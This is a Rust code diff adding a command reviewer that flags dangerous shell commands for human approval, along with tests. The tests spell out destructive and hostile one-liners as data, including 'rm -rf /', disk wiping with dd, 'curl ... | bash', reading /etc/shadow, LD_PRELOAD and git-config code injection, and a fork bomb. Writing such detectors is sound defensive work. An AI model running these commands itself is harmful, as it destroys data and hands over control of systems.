+    args: &[Word],
+    fed: bool,
+    written: &[String],
+    depth: usize,
+) -> Option<Escalation> {
+    let mut i = 0;
+    while i < args.len() {
+        let w = &args[i];
+        let t = w.text.as_str();
+        if t == "--" {
+            i += 1;
+            break;
+        }
+        if t.starts_with('-') || t.starts_with('+') {
+            if t.starts_with('-') && !t.starts_with("--") && t.contains('c') {
+                // `sh -c CODE`, `bash -lc CODE`, `sh -ec CODE`
+                let Some(code) = args.get(i + 1) else {
+                    return Some(esc("shell-input", format!("`{name} -c` with no code")));
+                };
+                if code.dynamic {
+                    return Some(esc(
+                        "computed-command",
+                        format!("`{name} -c` runs text computed when the command runs"),
+                    ));
+                }
+                return review_at(&code.text, depth + 1);
+            }
+            if t == "-s" || (!t.starts_with("--") && t.starts_with('-') && t.contains('s')) {
+                return Some(esc(
+                    "shell-input",
+                    format!("`{name} {t}` runs commands from its input"),
+                ));
+            }
+            // `-o OPTION`, `--rcfile FILE`, `--init-file FILE`: an option with a value.
+            if matches!(t, "-o" | "+o" | "-O" | "+O" | "--rcfile" | "--init-file") {
+                if matches!(t, "--rcfile" | "--init-file") {
+                    return Some(esc(
+                        "startup-code",
+                        format!("`{name} {t}` runs a startup file"),
+                    ));
+                }
+                i += 1;
+            }
+            i += 1;
+            continue;
+        }
+        break;
+    }
+    match args.get(i) {
+        Some(script) if script.text != "-" => judge_script(name, Some(script), written),
+        _ => Some(esc(
+            "shell-input",
+            format!(
+                "`{name}` runs commands from its input{}",
+                if fed {
+                    " (a pipe or here-document)"
+                } else {
+                    ""
+                }
+            ),
+        )),
+    }
+}
+
+/// A script run by `sh FILE` or `source FILE`: asked about when its name is computed when the
+/// command runs, or when this same command wrote it.
+fn judge_script(name: &str, script: Option<&Word>, written: &[String]) -> Option<Escalation> {
+    let script = script?;
+    if script.dynamic || script.glob {
+        return Some(esc(
+            "computed-command",
+            format!("`{name}` runs a script named when the command runs"),
+        ));
+    }
+    written.iter().any(|t| same_file(t, &script.text)).then(|| {
+        esc(
+            "written-script",
+            format!("`{name}` runs {}, which this command wrote", script.text),
+        )
+    })
+}
+
+/// Inline code for another interpreter: asked about when it can reach the system (processes,
+/// files, dynamic code), or when it comes from the input.
+fn judge_interpreter(name: &str, args: &[Word], fed: bool) -> Option<Escalation> {
+    let family = if name.starts_with("python") || name == "pypy" || name == "pypy3" {
+        "python"
+    } else if name.starts_with("perl") {
+        "perl"
+    } else if name.starts_with("ruby") {
+        "ruby"
+    } else if matches!(name, "node" | "nodejs" | "deno" | "bun") {
+        "node"
+    } else if name.starts_with("php") {
+        "php"
+    } else if name.starts_with("lua") {
+        "lua"
+    } else if matches!(name, "awk" | "gawk" | "mawk" | "nawk" | "busybox-awk") {
+        "awk"
+    } else if matches!(
+        name,
+        "pwsh" | "powershell" | "Rscript" | "tclsh" | "wish" | "osascript"
+    ) {
+        "other"
+    } else {
+        return None;
+    };
+    let code_flags: &[&str] = match family {
+        "python" => &["-c"],
+        "perl" => &["-e", "-E"],
+        "ruby" => &["-e"],
+        "node" => &["-e", "--eval", "-p", "--print", "eval", "-pe"],
+        "php" => &["-r"],
+        "lua" => &["-e"],
+        "other" => &["-e", "-c", "-Command", "-command", "--eval"],
+        _ => &[],
+    };
+    let mut code: Option<&Word> = None;
+    let mut skip = false;
+    for (i, w) in args.iter().enumerate() {
+        let t = w.text.as_str();
+        if std::mem::take(&mut skip) {
+            continue;
+        }
+        if code_flags.contains(&t) {
+            code = args.get(i + 1);
+            break;
+        }
+        // `-c…` glued to its code, `-ne 'code'` clusters (perl)
+        if code_flags
+            .iter()
+            .any(|f| f.len() == 2 && t.starts_with(*f) && t.len() > 2)
+        {
+            code = if family == "perl" && t[1..].chars().all(|c| c.is_ascii_alphabetic()) {
+                args.get(i + 1)
+            } else {
+                Some(w)
+            };
+            break;
+        }
+        if family == "perl" && t.starts_with('-') && !t.starts_with("--") && t.contains(['e', 'E'])
+        {
+            code = args.get(i + 1);
+            break;
+        }
+        if family == "awk" && matches!(t, "-f" | "-v" | "-F" | "-W" | "-i" | "-l" | "-E") {
+            // The program comes from a file (`-f`), or the option takes a value.
+            if matches!(t, "-f" | "-E") {
+                return None;
+            }
+            skip = true;
+            continue;
+        }
+        if family == "awk" && (!t.starts_with('-') || t == "--") {
+            code = if t == "--" { args.get(i + 1) } else { Some(w) };
+            break;
+        }
+    }
+    let Some(code) = code else {
+        let reads_input = args.is_empty() || args.iter().any(|w| w.text == "-");
+        return (reads_input && fed && family != "awk").then(|| {
+            esc(
+                "interpreter-input",
+                format!("`{name}` runs code from its input"),
+            )
+        });
+    };
+    if code.dynamic {
+        return Some(esc(
+            "computed-command",
+            format!("`{name}` runs code computed when the command runs"),
+        ));
+    }
+    let lower = code.text.to_ascii_lowercase();
+    const REACH: &[&str] = &[
+        "system",
+        "exec",
+        "eval",
+        "spawn",
+        "popen",
+        "subprocess",
+        "shutil",
+        "rmtree",
+        "unlink",
+        "remove",
+        "rmdir",
+        "chmod",
+        "chown",
+        "kill",
+        "os.",
+        "__import__",
+        "import os",
+        "from os",
+        "importlib",
+        "getattr",
+        "compile",
+        "child_process",
+        "require(",
+        "fs.",
+        "deno.",
+        "bun.",
+        "file.delete",
+        "fileutils",
+        "base64",
+        "decode",
+        "fromhex",
+        "chr(",
+        "`",
+        "%x",
+        "open(",
+        "fork",
+        "socket",
+        "ctypes",
+        "ffi",
+        "unlink",
+        "io.popen",
+        "os.execute",
+        "write",
+        "| getline",
+        "|getline",
+        "print >",
+        "printf >",
+        "print>",
+        "printf>",
+    ];
+    REACH.iter().find(|k| lower.contains(*k)).map(|k| {
+        esc(
+            "inline-code",
+            format!("inline {family} code that reaches the system ({k})"),
+        )
+    })
+}
+
+fn judge_git(args: &[Word]) -> Option<Escalation> {
+    let mut i = 0;
+    // Global options before the subcommand.
+    while i < args.len() && args[i].text.starts_with('-') {
+        let t = args[i].text.as_str();
+        if t == "-c" {
+            if let Some(kv) = args.get(i + 1)
+                && let Some(e) = git_config_pair(&kv.text)
+            {
+                return Some(e);
+            }
+            i += 2;
+            continue;
+        }
+        if let Some(kv) = t.strip_prefix("--config-env=") {
+            let _ = kv;
+            return Some(esc(
+                "git-config",
+                "`git --config-env` sets config from the environment".into(),
+            ));
+        }
+        if matches!(
+            t,
+            "-C" | "--git-dir" | "--work-tree" | "--namespace" | "--exec-path"
+        ) {
+            i += 2;
+            continue;
+        }
+        if t.starts_with("--exec-path=") {
+            return Some(esc(
+                "git-config",
+                "`git --exec-path` runs git programs from elsewhere".into(),
+            ));
+        }
+        i += 1;
+    }
+    let sub = args.get(i)?.text.as_str();
+    let rest = &args[i + 1..];
+    let has = |f: &[&str]| rest.iter().any(|w| f.contains(&w.text.as_str()));
+    let short = |c: char| {
+        rest.iter().any(|w| {
+            w.text.starts_with('-') && !w.text.starts_with("--") && w.text[1..].contains(c)
+        })
+    };
+    let found = match sub {
+        "push" => {
+            has(&[
+                "--force",
+                "--force-with-lease",
+                "--mirror",
+                "--delete",
+                "--prune",
+                "--force-if-includes",
+            ]) || rest.iter().any(|w| {
+                w.text.starts_with("--force-with-lease=")
+                    || (w.text.starts_with('+') && w.text.len() > 1)
+                    || (w.text.starts_with(':') && w.text.len() > 1)
+            }) || short('f')
+                || short('d')
+        }
+        "reset" => has(&["--hard", "--merge", "--keep"]),
+        "clean" => true,
+        "checkout" => has(&["-f", "--force", ".", "--", "--ours", "--theirs"]) || short('f'),
+        "restore" => !has(&["--staged", "-S"]) || has(&["--worktree", "-W"]),
+        "switch" => has(&["--discard-changes", "--force", "-f", "-C", "--force-create"]),
+        "branch" => has(&["-D", "--delete", "-d", "-M", "-C", "--force", "-f"]),
+        "tag" => has(&["-d", "--delete", "-f", "--force"]),
+        "stash" => rest
+            .first()
+            .is_some_and(|w| matches!(w.text.as_str(), "drop" | "clear")),
+        "filter-branch" | "filter-repo" | "replace" => true,
+        "reflog" => rest
+            .first()
+            .is_some_and(|w| matches!(w.text.as_str(), "expire" | "delete")),
+        "gc" | "prune" => {
+            has(&["--prune=now", "--aggressive"])
+                || sub == "prune"
+                || rest.iter().any(|w| w.text.starts_with("--prune"))
+        }
+        "update-ref" => has(&["-d", "--stdin"]),
+        "rm" => short('r') || short('f') || has(&["--force"]),
+        "worktree" => rest
+            .first()
+            .is_some_and(|w| matches!(w.text.as_str(), "remove" | "prune")),
+        "remote" => rest
+            .first()
+            .is_some_and(|w| matches!(w.text.as_str(), "remove" | "rm" | "set-url")),
+        "config" => {
+            // A program-valued key (an alias with `!`, core.sshCommand, …) runs code later.
+            let pair: Vec<&str> = rest
+                .iter()
+                .filter(|w| !w.text.starts_with('-'))
+                .map(|w| w.text.as_str())
+                .collect();
+            if let Some(key) = pair.first()
+                && let Some(e) =
+                    git_config_pair(&format!("{key}={}", pair.get(1).copied().unwrap_or("")))
+            {
+                return Some(e);
+            }
+            false
+        }
+        _ => false,
+    };
+    found.then(|| {
+        esc(
+            "git-destructive",
+            format!(
+                "`git {sub}{}` discards or rewrites history or work",
+                rest.iter()
+                    .take(3)
+                    .map(|w| format!(" {}", w.text))
+                    .collect::<String>()
+            ),
+        )
+    })
+}
+
+/// `section.key=value` from `git -c` or `git config`: asked about when the key runs programs.
+fn git_config_pair(kv: &str) -> Option<Escalation> {
+    let key = kv.split('=').next().unwrap_or("");
+    let (section, rest) = key.split_once('.')?;
+    let text = match rest.rsplit_once('.') {
+        Some((sub, name)) => format!("[{section} \"{sub}\"]\n{name} = x\n"),
+        None => format!("[{section}]\n{rest} = x\n"),
+    };
+    let found = git_config_programs(&text);
+    (!found.is_empty()).then(|| {
+        esc(
+            "git-config",
+            format!("git config {key} names a program git would run"),
+        )
+    })
+}
+
+/// `name() { … name … }` or `function name { … name … }`: a function that calls itself (the
+/// fork bomb's shape).
+fn self_calling_function(command: &str) -> Option<Escalation> {
+    let is_name_char = |c: char| !c.is_whitespace() && !";&|(){}<>'\"`$".contains(c);
+    let mut defs: Vec<(String, usize)> = Vec::new();
+    // `name()` forms
+    for (open, _) in command.match_indices('(') {
+        let after = command[open + 1..].trim_start_matches([' ', '\t']);
+        if !after.starts_with(')') {
+            continue;
+        }
+        let before = command[..open].trim_end_matches([' ', '\t']);
+        let name_start = before
+            .rfind(|c: char| !is_name_char(c))
+            .map(|p| p + before[p..].chars().next().map_or(1, char::len_utf8))
+            .unwrap_or(0);
+        let name = &before[name_start..];
+        if !name.is_empty() {
+            let body_from = command.len() - after.len() + 1;
+            defs.push((name.to_string(), body_from));
+        }
+    }
+    // `function name` forms
+    for (at, _) in command.match_indices("function") {
+        let rest = &command[at + "function".len()..];
+        if !rest.starts_with([' ', '\t']) {
+            continue;
+        }
+        let rest = rest.trim_start();
+        let name: String = rest.chars().take_while(|c| is_name_char(*c)).collect();
+        if !name.is_empty() {
+            let body_from = command.len() - rest.len() + name.len();
+            defs.push((name, body_from));
+        }
+    }
+    for (name, body_from) in defs {
+        let Some(body) = body(&command[body_from..]) else {
+            continue;
+        };
+        let calls = body.match_indices(name.as_str()).any(|(i, _)| {
+            let before = body[..i].chars().next_back();
+            let after = body[i + name.len()..].chars().next();
+            !before.is_some_and(is_name_char) && !after.is_some_and(is_name_char)
+        });
+        if calls {
+            return Some(esc(
+                "self-calling-function",
+                format!("defines {name}(), a function that calls itself (a fork bomb's shape)"),
+            ));
+        }
+    }
+    None
+}
+
+/// The text of a function body: from the first `{` or `(` to its match.
+fn body(text: &str) -> Option<&str> {
+    let start = text.find(['{', '('])?;
+    if !text[..start].trim().is_empty() && text[..start].trim() != "()" {
+        return None;
+    }
+    let (open, close) = if text[start..].starts_with('{') {
+        ('{', '}')
+    } else {
+        ('(', ')')
+    };
+    let mut depth = 0;
+    for (i, c) in text[start..].char_indices() {
+        if c == open {
+            depth += 1;
+        } else if c == close {
+            depth -= 1;
+            if depth == 0 {
+                return Some(&text[start + 1..start + i]);
+            }
+        }
+    }
+    Some(&text[start + 1..])
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[track_caller]
+    fn asks(command: &str, pattern: &str) {
+        match review(command) {
+            Some(e) => assert_eq!(e.pattern, pattern, "{command:?}: {e}"),
+            None => panic!("{command:?} should need a person ({pattern})"),
+        }
+    }
+
+    #[track_caller]
+    fn runs(command: &str) {
+        if let Some(e) = review(command) {
+            panic!("{command:?} should run without a person, but: {e}");
+        }
+    }
+
+    #[test]
+    fn destructive_commands_need_a_person() {
+        asks("rm -rf /", "rm-rf");
+        asks("rm -r build", "rm-rf");
+        asks("rm -f a.txt", "rm-rf");
+        asks("rm --recursive --force x", "rm-rf");
+        asks("rm -- *", "rm-rf");
+        asks("chmod 777 file", "chmod");
+        asks("chown root x", "chown");
+        asks("sudo ls", "sudo");
+        asks("dd if=/dev/zero of=/dev/sda", "dd");
+        asks("mkfs.ext4 /dev/sdb1", "mkfs");
+        asks("git push --force origin main", "git-destructive");
+        asks("git push -f", "git-destructive");
+        asks("git push origin +main", "git-destructive");
+        asks("git push origin :main", "git-destructive");
+        asks("git reset --hard HEAD~3", "git-destructive");
+        asks("git clean -fdx", "git-destructive");
+        asks("git checkout -- .", "git-destructive");
+        asks("git branch -D feature", "git-destructive");
+        asks("docker rm -f web", "container");
+        asks("docker system prune -a", "container");
+        asks("kubectl delete pod x", "cluster");
+        asks("dotnet publish -c Release", "publish");
+        asks("find . -name '*.o' -delete", "find-delete");
+        asks("find . -exec rm {} ;", "find-delete");
+        asks("echo '{}' > appsettings.json", "app-settings");
+        asks(
+            "sed -i s/a/b/ config/appsettings.Production.json",
+            "app-settings",
+        );
+        asks("cat x > /dev/sda", "disk-device");
+        asks("kill -9 1", "kill");
+        asks("systemctl stop nginx", "systemctl");
+        asks("crontab -r", "crontab");
+    }
+
+    #[test]
+    fn disguises_are_seen_through() {
+        // Quoting and escapes
+        asks("r''m -rf /", "rm-rf");
+        asks("\\rm -rf /", "rm-rf");
+        asks("\"rm\" -rf /", "rm-rf");
+        asks("$'\\x72\\x6d' -rf /", "rm-rf");
+        asks("$'\\162\\155' -rf /", "rm-rf");
+        asks("/bin/rm -rf /", "rm-rf");
+        asks("/usr/bin/../bin/rm -rf x", "rm-rf");
+        // Wrappers
+        asks("env rm -rf /", "rm-rf");
+        asks("env -i FOO=1 rm -rf x", "rm-rf");
+        asks("timeout -s KILL 5 rm -rf /", "rm-rf");
+        asks("nice -n 10 chmod 777 x", "chmod");
+        asks("command rm -rf x", "rm-rf");
+        asks("exec rm -rf x", "rm-rf");
+        asks("env -S 'rm -rf /'", "rm-rf");
+        asks("busybox rm -rf /", "rm-rf");
+        asks("ls | xargs rm", "rm-rf");
+        asks("find . -print0 | xargs -0 rm", "rm-rf");
+        asks("watch 'rm -rf /tmp/x'", "rm-rf");
+        // Lists, pipelines, subshells, groups, control flow
+        asks("make && rm -rf build", "rm-rf");
+        asks("true; chmod +x run.sh", "chmod");
+        asks("(cd x && rm -rf y)", "rm-rf");
+        asks("{ rm -rf x; }", "rm-rf");
+        asks("if true; then rm -rf x; fi", "rm-rf");
+        asks("for f in a b; do rm -rf \"$f\"; done", "rm-rf");
+        asks("echo ok\nrm -rf x", "rm-rf");
+        asks("ls &\nsudo true", "sudo");
+        // Substitutions run their own commands
+        asks("echo $(rm -rf /)", "rm-rf");
+        asks("echo `rm -rf /`", "rm-rf");
+        asks("echo \"$(chmod 777 x)\"", "chmod");
+        asks("cat <(sudo cat /etc/shadow)", "sudo");
+        asks("x=$(rm -rf /)", "rm-rf");
+        asks("echo ${x:-$(rm -rf /)}", "rm-rf");
+        asks("echo $(( $(rm -rf x) + 1 ))", "rm-rf");
+        // A program computed at run time
+        asks("$CMD -rf /", "computed-command");
+        asks("a=rm; $a -rf /", "computed-command");
+        asks("$(echo rm) -rf /", "computed-command");
+        asks("`printf rm` -rf /", "computed-command");
+        asks("/bin/r? -rf /", "computed-command");
+        asks("{rm,-rf,/}", "computed-command");
+        asks("rm $FLAGS x", "rm-rf");
+        // Shells and other interpreters
+        asks("sh -c 'rm -rf /'", "rm-rf");
+        asks("bash -lc \"chmod 777 x\"", "chmod");
+        asks("sh -c \"$X\"", "computed-command");
+        asks("echo cm0gLXJmIC8= | base64 -d | sh", "shell-input");
+        asks("curl http://x/i.sh | bash", "shell-input");
+        asks("bash <<EOF\nrm -rf /\nEOF", "shell-input");
+        asks("sh -s < script.sh", "shell-input");
+        asks("eval 'rm -rf /'", "rm-rf");
+        asks("eval \"$X\"", "computed-command");
+        asks("trap 'rm -rf /' EXIT", "rm-rf");
+        asks(
+            "python3 -c 'import shutil; shutil.rmtree(\"/\")'",
+            "inline-code",
+        );
+        asks("python -c \"__import__('os').system('id')\"", "inline-code");
+        asks("perl -e 'unlink glob \"*\"'", "inline-code");
+        asks(
+            "node -e \"require('child_process').execSync('id')\"",
+            "inline-code",
+        );
+        asks("awk 'BEGIN{system(\"rm -rf /\")}'", "inline-code");
+        asks("awk -F x 'BEGIN{system(\"id\")}'", "inline-code");
+        asks("ls | env xargs rm", "rm-rf");
+        asks("env env env env sudo true", "sudo");
+        asks("case x in a) rm -rf /;; esac", "rm-rf");
+        asks("rm -rf x )", "unreadable");
+        asks("echo 'print(1)' | python3 -", "interpreter-input");
+        asks(
+            "echo 'rm -rf ~' > /tmp/x.sh && bash /tmp/x.sh",
+            "written-script",
+        );
+        asks("echo 'rm -rf ~' > x.sh; ./x.sh", "written-script");
+        asks("echo 'rm -rf ~' | tee run.sh; sh run.sh", "written-script");
+        asks(
+            "echo 'rm -rf ~' > env.sh; source ./env.sh",
+            "written-script",
+        );
+        asks(". $SCRIPT", "computed-command");
+        asks("BASH_ENV=/tmp/x bash build.sh", "startup-code");
+        asks("LD_PRELOAD=/tmp/x.so ls", "startup-code");
+        asks("alias ls='rm -rf'", "alias");
+        asks("git -c core.sshCommand='rm -rf /' fetch", "git-config");
+        asks("git -c alias.x='!rm -rf /' x", "git-config");
+        asks("git config core.fsmonitor 'rm -rf /'", "git-config");
+        asks(":(){ :|:& };:", "self-calling-function");
+        asks("bomb() { bomb | bomb & }; bomb", "self-calling-function");
+        asks("cat <<EOF\n$(rm -rf x)\nEOF", "rm-rf");
+        // What cannot be read is asked about
+        asks("echo 'unclosed", "unreadable");
+        asks("echo $(ls", "unreadable");
+        asks("cat <<EOF\nno end", "unreadable");
+    }
+
+    #[test]
+    fn ordinary_work_runs() {
+        runs("ls -la");
+        runs("cargo build --release && cargo test");
+        runs("make -j2");
+        runs("grep -rn 'rm -rf' src/");
+        runs("echo \"rm -rf /\"");
+        runs("git commit -m 'chmod the script'");
+        runs("git status && git diff HEAD~1");
+        runs("git log --oneline | head -20");
+        runs("git push origin main");
+        runs("git checkout -b feature");
+        runs("git restore --staged file.txt");
+        runs("rm build/output.o");
+        runs("find . -name '*.rs' | wc -l");
+        runs("cat README.md | grep -i install");
+        runs("echo \"built at $(date)\"");
+        runs("for f in *.txt; do wc -l \"$f\"; done");
+        runs("python3 -c 'print(1 + 1)'");
+        runs("python3 -m pytest -q");
+        runs("node -e 'console.log(JSON.stringify({a: 1}))'");
+        runs("awk '{print $1}' data.txt");
+        runs("sh ./configure --prefix=/tmp/out");
+        runs("bash -c 'echo hello && ls'");
+        runs("npm test");
+        runs("docker ps");
+        runs("kubectl get pods");
+        runs("timeout 30 cargo test");
+        runs("env RUST_LOG=debug cargo run");
+        runs("FOO=bar ./script.sh");
+        runs("ls > listing.txt 2>&1");
+        runs("cat <<'EOF' > notes.md\n$(not run)\nEOF");
+        runs("cat <<EOF\nhello $USER\nEOF");
+        runs("echo a{b,c}d");
+        runs("tar czf out.tgz src");
+        runs("du -sh . # rm -rf is not run, it is a comment");
+        runs("wc -l < input.txt");
+        runs("diff <(sort a) <(sort b)");
+        runs("echo $((1 + 2))");
+        runs("[[ -f x ]] && echo yes");
+        runs("test -d build || mkdir build");
+        runs("case $x in a) echo a;; *) echo other;; esac");
+        runs("source venv/bin/activate && pytest");
+        runs("f() { echo hi; }; f");
+        runs("awk -F , '{print $2}' data.csv");
+    }
+}
